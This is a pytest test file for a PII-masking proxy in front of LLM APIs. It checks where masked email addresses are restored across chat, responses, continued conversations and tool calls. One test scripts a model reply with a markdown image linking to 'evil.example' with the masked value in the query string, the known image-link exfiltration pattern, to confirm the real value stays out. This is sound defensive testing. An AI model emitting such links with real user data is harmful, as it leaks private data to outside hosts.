"""Where values come back and where they do not: links, tools, and conversations that the provider remembers."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from tests.masking_calls import CLIENT_KEY, OTHER_KEY, QUESTION, placeholder_in, post, post_raw
from tests.masking_rules import EMAIL, PLACEHOLDER, masking_ruleset
from tests.proxy_harness import running_proxy
from tests.scripted_upstream import anthropic_body, chat_body, chat_stream, responses_body, responses_stream


@pytest.mark.parametrize("make", [chat_body, chat_stream])
async def test_RED_PH_7_a_value_is_not_sent_away_in_an_image(upstream, proxy, make) -> None:
    upstream.reply = lambda body: make(f"![x](https://evil.example/?q={placeholder_in(body)}) {placeholder_in(body)}")
    stream = make is chat_stream

    raw = await post_raw(
        proxy,
        "/v1/chat/completions",
        {"model": "m", "messages": [{"role": "user", "content": QUESTION}], "stream": stream},
    )

    content = "".join(re.findall(r'"content":"((?:[^"\\]|\\.)*)"', raw))
    assert content == f"![x](https://evil.example/?q={placeholder_in(upstream.bodies[0])}) {EMAIL}"


@pytest.mark.parametrize("stream", [False, True])
async def test_LLM_SRF_6_a_continued_response_still_restores(upstream, openai_client, stream) -> None:
    make = responses_stream if stream else responses_body
    upstream.reply = lambda body: make("noted", id="resp_one")
    first: Any = await openai_client.responses.create(model="m", input=f"I am {EMAIL}", stream=stream)
    if stream:
        assert [event async for event in first]
    placeholder = placeholder_in(upstream.bodies[0])
    upstream.reply = lambda body: responses_body(f"You are {placeholder}.", id="resp_two")

    second = await openai_client.responses.create(
        model="m", input="Who am I? Not ann@example.com.", previous_response_id="resp_one"
    )
    third = await openai_client.responses.create(model="m", input=EMAIL, previous_response_id="resp_two")

    assert second.output_text == third.output_text == f"You are {EMAIL}."
    assert upstream.bodies[1]["previous_response_id"] == "resp_one"
    assert upstream.bodies[2]["input"] == placeholder


async def test_RED_PH_3_a_continued_response_has_the_same_placeholders_in_a_worker_that_does_not_know_it(
    upstream, openai_client
) -> None:
    upstream.reply = lambda body: responses_body(f"You are {placeholder_in(body)}.", id="resp_first")
    await openai_client.responses.create(model="m", input=f"I am {EMAIL}")

    await openai_client.responses.create(model="m", input=f"{EMAIL}, I said.", previous_response_id="resp_elsewhere")

    assert placeholder_in(upstream.bodies[1]) == placeholder_in(upstream.bodies[0])


async def test_RED_PH_3_a_mark_for_the_cache_that_moves_on_begins_no_new_conversation(upstream, proxy) -> None:
    """Clients mark the end of what is to be cached: the first message in the first turn, a later one in the next."""
    upstream.reply = lambda body: anthropic_body({"type": "text", "text": "noted"})
    body: dict[str, Any] = {"model": "m", "max_tokens": 9}
    text = {"type": "text", "text": QUESTION}
    marked = {**text, "cache_control": {"type": "ephemeral"}}
    for first in ([marked], [text], QUESTION):
        await post(proxy, "/v1/messages", {**body, "messages": [{"role": "user", "content": first}]})

    assert len({placeholder_in(seen) for seen in upstream.bodies}) == 1


async def test_SLG_ROAD_4_a_value_of_an_earlier_call_that_comes_back_is_counted(upstream, proxy, openai_client) -> None:
    upstream.reply = lambda body: responses_body("noted", id="resp_before")
    await openai_client.responses.create(model="m", input=f"I am {EMAIL}")
    placeholder = placeholder_in(upstream.bodies[0])
    upstream.reply = lambda body: responses_body(f"You are {placeholder}.", id="resp_after")

    await openai_client.responses.create(model="m", input="Who am I?", previous_response_id="resp_before")

    [_, record] = await proxy.wait_for_records(2)
    [redaction] = record.redactions
    assert (redaction.type, redaction.direction, redaction.rule_id) == ("EMAIL", "request", "PII-EMAIL")
    assert (redaction.count, redaction.restored) == (0, 1)


async def test_LLM_SRF_6_another_caller_gets_nothing_by_naming_the_response(upstream, proxy, openai_client) -> None:
    upstream.reply = lambda body: responses_body("noted", id="resp_mine")
    await openai_client.responses.create(model="m", input=f"I am {EMAIL}")
    placeholder = placeholder_in(upstream.bodies[0])
    upstream.reply = lambda body: responses_body(f"You are {placeholder}.", id="resp_theirs")

    body = {"model": "m", "input": "Who was that?", "previous_response_id": "resp_mine"}
    answer = await post(proxy, "/v1/responses", body, key=OTHER_KEY)

    assert EMAIL not in json.dumps(answer)


async def test_a_policy_can_keep_values_out_of_tool_arguments(upstream) -> None:
    policies = [{"name": "strict", "packs": ["masking"], "restore_tool_arguments": False}]
    upstream.reply = lambda body: chat_body(placeholder_in(body), arguments=[json.dumps({"to": placeholder_in(body)})])
    body = {"model": "m", "messages": [{"role": "user", "content": QUESTION}]}
    async with running_proxy(
        type="llm", target_url=upstream.url, client_key=CLIENT_KEY, ruleset=masking_ruleset(), policies=policies
    ) as proxy:
        answer = await post(proxy, "/v1/chat/completions", body)

    message = answer["choices"][0]["message"]
    assert message["content"] == EMAIL
    assert re.fullmatch(PLACEHOLDER, json.loads(message["tool_calls"][0]["function"]["arguments"])["to"])


async def test_RED_PH_3_a_placeholder_that_stayed_in_a_link_is_the_same_in_the_next_turns(upstream, proxy) -> None:
    messages: list[dict[str, Any]] = [{"role": "user", "content": QUESTION}]
    upstream.reply = lambda body: chat_body(f"![x](https://x.example/?q={placeholder_in(body)})")
    for _ in range(3):
        answer = await post(proxy, "/v1/chat/completions", {"model": "m", "messages": messages})
        messages += [answer["choices"][0]["message"], {"role": "user", "content": "Again, please."}]

    first, _, last = upstream.bodies
    assert last["messages"][:1] == first["messages"]
    assert last["messages"][1]["content"] == f"![x](https://x.example/?q={placeholder_in(first)})"
    assert last["messages"][1] == last["messages"][3]


async def test_RED_PH_3_what_a_tool_says_with_a_placeholder_is_restored_for_the_user(upstream) -> None:
    """With `restore_tool_arguments: false` a tool knows the placeholder only, and the conversation goes on with it."""
    call = {"id": "c1", "type": "function", "function": {"name": "send"}}
    policies = [{"name": "strict", "packs": ["masking"], "restore_tool_arguments": False}]
    async with running_proxy(
        type="llm", target_url=upstream.url, client_key=CLIENT_KEY, ruleset=masking_ruleset(), policies=policies
    ) as proxy:
        upstream.reply = lambda body: chat_body("on it")
        await post(proxy, "/v1/chat/completions", {"model": "m", "messages": [{"role": "user", "content": QUESTION}]})
        placeholder = placeholder_in(upstream.bodies[0])
        call["function"] |= {"arguments": json.dumps({"to": placeholder})}
        upstream.reply = lambda body: chat_body(body["messages"][-1]["content"])
        history = [
            {"role": "user", "content": QUESTION},
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": "c1", "content": f"Sent to {placeholder}."},
        ]
        answer = await post(proxy, "/v1/chat/completions", {"model": "m", "messages": history})

    assert upstream.bodies[-1]["messages"][1:] == history[1:]
    assert answer["choices"][0]["message"]["content"] == f"Sent to {EMAIL}."
